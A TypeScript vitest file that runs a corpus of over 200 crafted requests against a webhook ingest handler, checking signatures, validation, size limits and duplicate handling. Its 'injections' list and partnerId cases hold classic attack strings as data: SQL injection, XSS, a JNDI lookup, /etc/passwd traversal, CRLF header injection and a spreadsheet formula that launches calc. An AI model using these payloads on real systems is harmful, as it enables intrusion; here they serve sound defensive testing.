import { randomUUID } from 'node:crypto';
import type { APIGatewayProxyEventV2, APIGatewayProxyStructuredResultV2 } from 'aws-lambda';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { maxBodyBytes } from '../../shared/ingest/request.js';
import { signatureHeader, signEvent, timestampHeader } from '../../shared/signing.js';
import { aLambdaContext, anHttpApiEvent } from '../helpers/api-gateway-events.js';
import {
  createWebhookSecret,
  type IngestSnapshot,
  provisionIngestEnvironment,
  takeIngestSnapshot,
} from '../helpers/ingest-resources.js';

/**
 * A fixed corpus of requests to `POST /v1/events`, each with the one answer it must get: the right
 * 4xx with a problem body, or 202 when it is valid. Nothing refused may be stored or queued, and
 * no request may answer 5xx. (The property test in test/property covers random requests.)
 */

const partnerId = `corpus-${randomUUID().slice(0, 8)}`;
const secret = 'corpus-webhook-secret-0123456789';
let env: Record<string, string>;
let before: IngestSnapshot;
let handler: (event: APIGatewayProxyEventV2, context: ReturnType<typeof aLambdaContext>) => Promise<unknown>;

interface Case {
  readonly name: string;
  /** The body as sent (text), signed with the partner's secret unless `headers` says otherwise. */
  readonly body: string;
  readonly headers?: (signed: Record<string, string>) => Record<string, string | undefined>;
  readonly base64?: boolean;
  /** 202 for an event that must be accepted (and stored and queued once). */
  readonly status: 202 | 400 | 401 | 413 | 415;
}

let seq = 0;
const aValidEvent = (overrides: Record<string, unknown> = {}): Record<string, unknown> => {
  seq += 1;
  return {
    eventId: `corpus-${Date.now()}-${seq}`,
    partnerId,
    type: 'backup.failed',
    severity: 'error',
    occurredAt: new Date().toISOString(),
    customer: { id: '19652', name: 'Acme Dental Group' },
    account: { id: `ACC${seq}`, name: 'Front desk', service: 'BDR', plan: 'Default' },
    message: 'Backup failed',
    stats: {
      servers: 1,
      workstations: 2,
      successfulJobs: 3,
      failedJobs: 1,
      storageGb: 10.5,
      localStorageGb: 2,
    },
    ...overrides,
  };
};

/** `event` with the value at `path` (dot-separated) replaced, or removed when `value` is undefined. */
const withValue = (path: string, value: unknown): Record<string, unknown> => {
  const event = aValidEvent();
  const keys = path.split('.');
  let holder = event as Record<string, unknown>;
  for (const key of keys.slice(0, -1)) holder = holder[key] as Record<string, unknown>;
  const last = keys.at(-1) ?? '';
  if (value === undefined) delete holder[last];
  else holder[last] = value;
  return event;
};

const json = (value: unknown) => JSON.stringify(value);

const malformedJson: Case[] = [
  '',
  ' ',
  '{',
  '}',
  '[',
  '{"eventId":',
  '{"eventId": "a",}',
  "{'eventId': 'a'}",
  '{eventId: "a"}',
  '{"a": NaN}',
  '{"a": Infinity}',
  '{"a": undefined}',
  '{"a": 01}',
  '{"a": .5}',
  '{"a": "\\x41"}',
  '{"a": "unterminated}',
  '{"a": "tab\there"}',
  '/* comment */ {}',
  '{} // comment',
  '{}{}',
  '\uFEFF{}',
  'null',
  'true',
  '42',
  '"a string"',
  '[]',
  `${'['.repeat(5000)}${']'.repeat(4999)}`,
  `{"partnerId": "${partnerId}"`,
].map((body, index) => ({ name: `malformed JSON #${index + 1}`, body, status: 400 }));

/** JSON that parses but is no event: wrong root types and partner ids that cannot be one. */
const notAnEvent: Case[] = [
  json({}),
  json([aValidEvent()]),
  json({ partnerId: null }),
  json({ partnerId: 42 }),
  json({ partnerId: '' }),
  json({ partnerId: '../../etc/passwd' }),
  json({ partnerId: 'a b' }),
  json({ partnerId: 'x'.repeat(129) }),
  json({ partnerId: ['demo'] }),
  json(aValidEvent({ partnerId: 'demo/../../secret' })),
].map((body, index) => ({ name: `not an event #${index + 1}`, body, status: 400 }));

const strings = [
  'eventId',
  'type',
  'severity',
  'occurredAt',
  'customer.name',
  'account.id',
  'account.name',
  'account.service',
  'account.plan',
  'message',
];
const counts = [
  'stats.servers',
  'stats.workstations',
  'stats.successfulJobs',
  'stats.failedJobs',
  'stats.storageGb',
  'stats.localStorageGb',
];
const objects = ['customer', 'account', 'stats'];

const wrongTypes: Case[] = [
  ...strings.flatMap((path) =>
    [null, true, 19652, [], {}, ['x']].map((value) => ({
      name: `${path} = ${json(value)}`,
      body: json(withValue(path, value)),
      status: 400 as const,
    })),
  ),
  ...counts.flatMap((path) =>
    [null, '12', true, [], {}, -1, 1e12].map((value) => ({
      name: `${path} = ${json(value)}`,
      body: json(withValue(path, value)),
      status: 400 as const,
    })),
  ),
  ...objects.flatMap((path) =>
    [null, 'x', 1, [], true].map((value) => ({
      name: `${path} = ${json(value)}`,
      body: json(withValue(path, value)),
      status: 400 as const,
    })),
  ),
  // Missing required fields, blank names, unknown fields, wrong values.
  ...['eventId', 'type', 'severity', 'occurredAt', 'customer', 'account', 'message', 'customer.id'].map(
    (path) => ({ name: `missing ${path}`, body: json(withValue(path, undefined)), status: 400 as const }),
  ),
  ...[
    ['type', 'backup.exploded'],
    ['severity', 'critical'],
    ['occurredAt', '2026-13-01T00:00:00Z'],
    ['occurredAt', 'yesterday'],
    ['occurredAt', '2026-12-01'],
    ['eventId', ''],
    ['eventId', '-leading-dash'],
    ['eventId', 'has space'],
    ['eventId', 'x'.repeat(129)],
    ['account.id', 'a/b'],
    ['customer.name', '   '],
    ['account.name', ''],
    ['message', 'x'.repeat(4001)],
    ['extra', 'field'],
    ['customer.extra', 1],
    ['stats.lastBackupAt', 'not a date'],
    ['stats.unknown', 1],
  ].map(([path, value]) => ({
    name: `${path} = ${json(value).slice(0, 40)}`,
    body: json(withValue(String(path), value)),
    status: 400 as const,
  })),
];

/** Numbers where strings are expected: the customer id may be either, nothing else may. */
const numbersForStrings: Case[] = [
  { name: 'customer.id as a JSON integer', body: json(withValue('customer.id', 19652)), status: 202 },
  { name: 'customer.id 0', body: json(withValue('customer.id', 0)), status: 202 },
  { name: 'customer.id written 1e3', body: json(aValidEvent()).replace('"19652"', '1e3'), status: 202 },
  { name: 'customer.id with leading zeros', body: json(withValue('customer.id', '0019652')), status: 202 },
  { name: 'customer.id 1.5', body: json(withValue('customer.id', 1.5)), status: 400 },
  { name: 'customer.id -5', body: json(withValue('customer.id', -5)), status: 400 },
  { name: 'customer.id 2^60', body: json(withValue('customer.id', 2 ** 60)), status: 400 },
  { name: 'customer.id "19652a"', body: json(withValue('customer.id', '19652a')), status: 400 },
  { name: 'customer.id "-5"', body: json(withValue('customer.id', '-5')), status: 400 },
  { name: 'customer.id 19 digits', body: json(withValue('customer.id', '1'.repeat(19))), status: 400 },
  { name: 'customer.id ""', body: json(withValue('customer.id', '')), status: 400 },
  { name: 'customer.id true', body: json(withValue('customer.id', true)), status: 400 },
  { name: 'account.id 12345', body: json(withValue('account.id', 12345)), status: 400 },
];

const contentTypes: Case[] = [
  undefined,
  '',
  'text/plain',
  'application/xml',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/jsonx',
  'application/json-seq',
  'json',
  'text/json',
].map((contentType) => ({
  name: `content type ${json(contentType)}`,
  body: json(aValidEvent()),
  headers: (signed) => ({ ...signed, 'Content-Type': contentType }),
  status: 415,
}));

const oversized: Case[] = [
  { name: 'a body one byte over the limit', body: 'x'.repeat(maxBodyBytes + 1), status: 413 },
  {
    name: 'a valid event padded past the limit',
    body: json(aValidEvent({ message: 'x'.repeat(maxBodyBytes) })),
    status: 413,
  },
  {
    name: 'a base64 body over the limit',
    body: Buffer.from('x'.repeat(maxBodyBytes + 10)).toString('base64'),
    base64: true,
    status: 413,
  },
  {
    name: 'multi-byte characters over the limit in bytes, under it in characters',
    body: json(aValidEvent({ message: 'é'.repeat(maxBodyBytes / 2 + 10) })),
    status: 413,
  },
];

const now = () => Math.floor(Date.now() / 1000);
type Headers = Record<string, string>;
const signatures: Case[] = (
  [
    { name: 'no signature header', headers: (s) => ({ ...s, [signatureHeader]: undefined }) },
    { name: 'no timestamp header', headers: (s) => ({ ...s, [timestampHeader]: undefined }) },
    { name: 'no signature headers at all', headers: () => ({ 'Content-Type': 'application/json' }) },
    { name: 'empty signature', headers: (s) => ({ ...s, [signatureHeader]: '' }) },
    { name: 'signature without its scheme', headers: (s) => ({ ...s, [signatureHeader]: 'deadbeef' }) },
    {
      name: 'signature of another scheme',
      headers: (s) => ({ ...s, [signatureHeader]: `v0=${'0'.repeat(64)}` }),
    },
    {
      name: 'signature with the wrong secret',
      headers: (s) => ({ ...s, [signatureHeader]: signEvent('wrong-secret', 'x').signature }),
    },
    {
      name: 'signature of another timestamp',
      headers: (s) => ({ ...s, [timestampHeader]: String(Number(s[timestampHeader]) - 1) }),
    },
    { name: 'non-numeric timestamp', headers: (s) => ({ ...s, [timestampHeader]: 'now' }) },
    { name: 'timestamp in milliseconds', headers: (s) => ({ ...s, [timestampHeader]: String(Date.now()) }) },
    {
      name: 'signature with a digit too many',
      headers: (s) => ({ ...s, [signatureHeader]: `${s[signatureHeader]}0` }),
    },
  ] satisfies { name: string; headers: (signed: Headers) => Record<string, string | undefined> }[]
).map((entry) => ({ ...entry, body: json(aValidEvent()), status: 401 as const }));

/** Signed correctly, but too old or too new: a replay or a clock far off. */
const staleSignatures: Case[] = [-3600, -301, 301, 86_400].map((skew) => {
  const body = json(aValidEvent());
  return {
    name: `signed ${skew} s from now`,
    body,
    headers: () => signEvent(secret, body, now() + skew).headers,
    status: 401,
  };
});

const tamperedBodies: Case[] = ['message', 'customer.id', 'severity'].map((path) => {
  const original = aValidEvent();
  const tampered = json({
    ...withValue(path, path === 'customer.id' ? '99999' : 'warning'),
    eventId: original.eventId,
  });
  return {
    name: `${path} changed after signing`,
    body: tampered,
    headers: () => signEvent(secret, json(original)).headers,
    status: 401,
  };
});

const unknownPartners: Case[] = ['nobody', 'corpus-unknown', 'DEMO', 'a', 'x'.repeat(128)].map((id) => {
  const body = json(aValidEvent({ partnerId: id }));
  return { name: `unknown partner ${id.slice(0, 20)}`, body, status: 401 };
});

/** Valid events whose text only looks dangerous: stored as sent, never interpreted. */
const injections: Case[] = [
  "'; DROP TABLE events; --",
  '<script>alert(1)</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: text that only looks like a template, on purpose
  '{{7*7}} ${7*7} #{7*7}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: text that only looks like a template, on purpose
  '${jndi:ldap://example.invalid/a}',
  '../../../../etc/passwd',
  'line one\r\nX-Injected: header',
  '\u0000nul inside',
  '%00%0d%0a',
  '{"$ne": null}',
  'attribute_not_exists(eventId)',
  '=cmd|" /C calc"!A0',
  '\\u0000 written out',
].map((text) => ({
  name: `injection-looking message ${json(text).slice(0, 30)}`,
  body: json(aValidEvent({ message: text, account: { ...(aValidEvent().account as object), name: text } })),
  status: 202,
}));

/** Unicode edge cases in valid events, lone surrogates included: accepted. */
const unicode: Case[] = [
  '\ud800',
  '\udfff',
  'a\udbffb',
  '\ud83d\ude00 emoji',
  'e\u0301 combining',
  '\u202eRTL override',
  'zero\u200bwidth',
  '\uFEFF byte order mark',
  '\uFFFF noncharacter',
  '𝕌𝕟𝕚𝕔𝕠𝕕𝕖',
  'مرحبا',
  '日本語のメッセージ',
].map((text) => ({
  name: `unicode ${json(text)}`,
  body: json(aValidEvent({ message: text, customer: { id: '19652', name: `Acme ${text}` } })),
  status: 202,
}));

const valid: Case[] = [
  { name: 'a plain valid event', body: json(aValidEvent()), status: 202 },
  { name: 'a valid event without stats', body: json(withValue('stats', undefined)), status: 202 },
  {
    name: 'a valid event, base64-encoded by API Gateway',
    body: Buffer.from(json(aValidEvent())).toString('base64'),
    base64: true,
    status: 202,
  },
  {
    name: 'a valid event with charset in its content type',
    body: json(aValidEvent()),
    headers: (s) => ({ ...s, 'Content-Type': 'Application/JSON; charset=utf-8' }),
    status: 202,
  },
  {
    name: 'a message of exactly 4000 characters',
    body: json(aValidEvent({ message: 'm'.repeat(4000) })),
    status: 202,
  },
];

const corpus: Case[] = [
  ...malformedJson,
  ...notAnEvent,
  ...wrongTypes,
  ...numbersForStrings,
  ...contentTypes,
  ...oversized,
  ...signatures,
  ...staleSignatures,
  ...tamperedBodies,
  ...unknownPartners,
  ...injections,
  ...unicode,
  ...valid,
];

const send = async (entry: Case): Promise<APIGatewayProxyStructuredResultV2> => {
  const decoded = entry.base64 ? Buffer.from(entry.body, 'base64').toString('utf8') : entry.body;
  const signed = signEvent(secret, entry.base64 ? decoded : entry.body).headers as Record<string, string>;
  const headers = Object.fromEntries(
    Object.entries(entry.headers ? entry.headers(signed) : signed).filter(
      (pair): pair is [string, string] => pair[1] !== undefined,
    ),
  );
  const event = anHttpApiEvent({ body: entry.body, isBase64Encoded: entry.base64 ?? false });
  // API Gateway v2 hands header names over in lower case.
  event.headers = Object.fromEntries(
    Object.entries(headers).map(([key, value]) => [key.toLowerCase(), value]),
  );
  return (await handler(event, aLambdaContext())) as APIGatewayProxyStructuredResultV2;
};

beforeAll(async () => {
  env = await provisionIngestEnvironment(0);
  await createWebhookSecret(partnerId, secret);
  ({ handler } = await import('../../functions/ingest/handler.js'));
  before = await takeIngestSnapshot(env);
});

const answered: { entry: Case; status: number }[] = [];

describe(`ingest under a corpus of ${corpus.length} requests`, () => {
  it('holds at least 200 requests', () => {
    expect(corpus.length).toBeGreaterThanOrEqual(200);
  });

  it.each(corpus.map((entry) => [entry.name, entry] as const))('%s', async (_name, entry) => {
    const response = await send(entry);
    answered.push({ entry, status: response.statusCode ?? 0 });
    expect(response.statusCode).toBe(entry.status);
    const body = JSON.parse(response.body ?? '{}') as Record<string, unknown>;
    if (entry.status === 202) {
      expect(body).toMatchObject({ status: 'queued' });
    } else {
      const contentType = Object.entries(response.headers ?? {}).find(
        ([name]) => name.toLowerCase() === 'content-type',
      )?.[1];
      expect(contentType).toMatch(/^application\/problem\+json/);
      expect(body).toMatchObject({
        status: entry.status,
        title: expect.any(String),
        detail: expect.any(String),
      });
    }
  });

  it('stored and queued exactly the accepted requests, once each', async () => {
    const accepted = answered.filter(({ status }) => status === 202).length;
    expect(accepted).toBe(corpus.filter((entry) => entry.status === 202).length);
    const after = await takeIngestSnapshot(env);
    expect(after.storedEvents - before.storedEvents).toBe(accepted);
    expect(
      after.visible + after.delayed + after.inFlight - (before.visible + before.delayed + before.inFlight),
    ).toBe(accepted);
  });

  it('answers a replay of an accepted request as a duplicate and queues nothing more', async () => {
    const replay: Case = { name: 'replay', body: json(aValidEvent()), status: 202 };
    const first = await send(replay);
    const snapshot = await takeIngestSnapshot(env);
    const second = await send(replay);
    expect(JSON.parse(first.body ?? '{}')).toMatchObject({ status: 'queued' });
    expect(JSON.parse(second.body ?? '{}')).toMatchObject({ status: 'duplicate' });
    expect(await takeIngestSnapshot(env)).toEqual(snapshot);
  });
});

afterAll(() => {
  const byStatus = new Map<number, number>();
  for (const { status } of answered) byStatus.set(status, (byStatus.get(status) ?? 0) + 1);
  console.log(
    `ingest corpus: ${answered.length} requests, ${[...byStatus].map(([status, n]) => `${n} × ${status}`).join(', ')}`,
  );
});
